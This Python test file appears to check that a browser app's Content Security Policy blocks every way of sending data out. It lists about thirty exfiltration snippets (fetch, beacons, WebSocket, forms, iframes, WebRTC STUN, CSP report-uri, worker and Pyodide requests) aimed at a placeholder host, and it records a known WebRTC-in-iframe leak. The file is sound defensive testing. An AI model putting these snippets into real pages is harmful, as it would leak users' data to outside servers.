"""The user's data cannot leave: every road is tried, to a server that must hear nothing."""

import re
import socket
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager

import pytest
from catcher import Catcher, catching
from lab import QUICK
from playwright.sync_api import Page, Worker
from static_site import Answer

from building.paths import DIST

# Each tries to send the word "secret" to HOST. What it throws is no matter, only what arrives.
FROM_A_PAGE = {
    "fetch": "await fetch('http://HOST/secret', {mode: 'no-cors', method: 'POST', body: 'secret'})",
    "XHR": "const x = new XMLHttpRequest(); x.open('POST', 'http://HOST/'); x.send('secret')",
    "WebSocket": "new WebSocket('ws://HOST/secret')",
    "EventSource": "new EventSource('http://HOST/secret')",
    "sendBeacon": "navigator.sendBeacon('http://HOST/', 'secret')",
    "image": "new Image().src = 'http://HOST/secret'",
    "form": """
        const form = append('form', {action: 'http://HOST/secret', method: 'post'});
        form.submit()""",
    "script": "append('script', {src: 'http://HOST/secret.js'})",
    "style": "append('link', {rel: 'stylesheet', href: 'http://HOST/secret.css'})",
    "inline style": "append('div', {}).style.background = 'url(http://HOST/secret)'",
    "prefetch": "append('link', {rel: 'prefetch', href: 'http://HOST/secret'})",
    "preconnect": "append('link', {rel: 'preconnect', href: 'http://HOST/secret'})",
    "icon": "append('link', {rel: 'icon', href: 'http://HOST/secret'})",
    "frame": "append('iframe', {src: 'http://HOST/secret'})",
    "video": "append('video', {src: 'http://HOST/secret'})",
    "object": "append('object', {data: 'http://HOST/secret'})",
    "font": "await new FontFace('f', 'url(http://HOST/secret)').load()",
    "ping": """
        const link = append('a', {href: '#', ping: 'http://HOST/secret'});
        link.click()""",
    "worker": "new Worker('http://HOST/secret.js')",
    "service worker": "await navigator.serviceWorker.register('http://HOST/secret.js')",
    "import": "await import('http://HOST/secret.js')",
    "WebTransport": "await new WebTransport('https://HOST/secret').ready",
    "WebRTC": """
        const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});
        peer.createDataChannel('secret');
        await peer.setLocalDescription(await peer.createOffer())""",
    "policy report": """
        append('meta', {httpEquiv: 'Content-Security-Policy',
          content: "img-src 'none'; report-uri http://HOST/secret"});
        new Image().src = 'nothing.png'""",
}
WEBRTC_OF_A_FRAME = """
    const frame = append('iframe', {srcdoc: ''});
    const peer = new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:HOST'}]});
    peer.createDataChannel('secret');
    await peer.setLocalDescription(await peer.createOffer())"""
FROM_A_WORKER = {
    name: FROM_A_PAGE[name]
    for name in ("fetch", "XHR", "WebSocket", "EventSource", "import", "WebTransport", "WebRTC")
} | {
    "importScripts": "importScripts('http://HOST/secret.js')",
    "worker of a worker": "new Worker('http://HOST/secret.js')",
    "blob worker": """
        const source = new Blob(["fetch('http://HOST/secret', {mode: 'no-cors'})"]);
        self.ended = new Worker(URL.createObjectURL(source))""",
}
APPEND = """
const append = (tag, properties) => {
  const made = Object.assign(document.createElement(tag), properties, {className: "a-road-out"});
  document.body.append(made);
  return made;
};
"""
REFUSED = (
    "Content Security Policy",
    "Content-Security-Policy",
    "violates",
    "Refused",
    "blocked",
    "failed request",
    "request to another place",
    "is not a constructor",
    "not defined",
    "Failed to",
    "page error",
    "404",
)
PYTHON = """

import js as _js
from pyodide.code import run_js as _run_js
from pyodide.ffi import create_proxy as _create_proxy


async def _try_to_send(host):
    \"\"\"What Python code in this worker could try; returns how each attempt ended.\"\"\"
    import urllib.request

    from pyodide.http import open_url, pyfetch

    ends = []

    async def attempt(work):
        try:
            result = work()
            if hasattr(result, "__await__"):
                await result
            ends.append("returned")
        except BaseException as error:
            ends.append(type(error).__name__)

    url = f"http://{host}/secret"
    await attempt(lambda: pyfetch(url, method="POST", body="secret"))
    await attempt(lambda: open_url(url))
    await attempt(lambda: urllib.request.urlopen(url, b"secret", timeout=5))
    await attempt(lambda: _js.fetch(url))
    await attempt(lambda: _js.WebSocket.new(f"ws://{host}/secret"))
    await attempt(lambda: _js.importScripts(url))
    await attempt(lambda: _run_js(f"fetch('{url}', {{mode: 'no-cors'}})"))
    return ", ".join(ends)


_js.tryToSend = _create_proxy(_try_to_send)
"""


@pytest.fixture
def stranger() -> Iterator[Catcher]:
    with catching() as catcher:
        yield catcher


@contextmanager
def strangers(roads: dict[str, str]) -> Iterator[dict[str, Catcher]]:
    """One for every road, so that what is heard tells by which it came."""
    with ExitStack() as stack:
        yield {road: stack.enter_context(catching()) for road in roads}


def give_time(page: Page) -> None:
    """As much as anything takes that is already under way: nothing can be waited for here."""
    page.wait_for_timeout(1000)


def attempt(where: Page | Worker, code: str, stranger: Catcher, first: str = "") -> None:
    """Try a road; that it throws is one of the ways in which it may be closed."""
    code = code.replace("HOST", stranger.host)
    where.evaluate(f"async () => {{ {first} try {{ {code} }} catch {{}} }}")


def tidy(page: Page) -> None:
    page.evaluate("for (const one of document.querySelectorAll('.a-road-out')) one.remove()")


def test_the_stranger_hears_what_is_sent(stranger, fresh):
    """Or none of the tests below would say anything."""
    lab = fresh(f"http://{stranger.host}/")
    lab.watch.expect(*REFUSED)
    lab.page.context.route("**", lambda route: route.fulfill(body="<p>a page without a policy"))
    lab.page.goto(f"http://{stranger.host}/page.html")
    lab.page.context.unroute_all()
    attempt(lab.page, FROM_A_PAGE["fetch"], stranger)
    with socket.socket(type=socket.SOCK_DGRAM) as sender:
        sender.sendto(b"datagram", ("127.0.0.1", stranger.port))
    give_time(lab.page)
    caught = b"|".join(stranger.caught)
    assert b"POST /secret" in caught and b"datagram" in caught


def test_the_policy():
    page = (DIST / "index.html").read_text(encoding="utf-8")
    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules["default-src"] == rules["base-uri"] == rules["form-action"] == "'none'"
    assert rules["connect-src"] == "'self'"
    assert "unsafe-inline" not in policy and "http" not in policy and "*" not in policy
    assert page.index("Content-Security-Policy") < page.index("<script")


def test_from_the_page(lab):
    lab.watch.expect(*REFUSED)
    before = lab.page.url
    with strangers(FROM_A_PAGE) as listening:
        for road, code in FROM_A_PAGE.items():
            attempt(lab.page, code, listening[road], APPEND)
        give_time(lab.page)
        assert {road: one.caught for road, one in listening.items() if one.caught} == {}
        tidy(lab.page)
    assert lab.page.url.split("#")[0] == before.split("#")[0]
    lab.open(QUICK)


def test_from_the_worker(lab):
    lab.watch.expect(*REFUSED)
    lab.open(QUICK)
    (worker,) = lab.page.workers
    with strangers(FROM_A_WORKER) as listening:
        for road, code in FROM_A_WORKER.items():
            attempt(worker, code, listening[road])
        give_time(lab.page)
        assert {road: one.caught for road, one in listening.items() if one.caught} == {}
    worker.evaluate("self.ended?.terminate()")
    assert lab.works()


@pytest.mark.xfail(
    reason="Every new frame has a WebRTC of its own, and Chromium knows no policy against it. "
    "Only code of this page could use it: none other runs here.",
    strict=True,
)
def test_by_webrtc_of_a_frame(fresh, stranger):
    lab = fresh().visit("", "?start=click")
    attempt(lab.page, WEBRTC_OF_A_FRAME, stranger, APPEND)
    give_time(lab.page)
    assert stranger.caught == []


def test_from_python(fresh, site, stranger):
    """By a worker.py that gives this test a road into Python."""
    source = (DIST / "worker.py").read_bytes() + PYTHON.encode()
    lab = fresh()
    lab.watch.expect(*REFUSED)
    with site.answering({"worker.py": Answer(body=source, type="text/x-python")}):
        lab.boot(QUICK)
    (worker,) = lab.page.workers
    ends = worker.evaluate("host => tryToSend(host)", stranger.host)
    assert len(ends.split(", ")) == 7
    give_time(lab.page)
    assert stranger.caught == []
    assert lab.works()
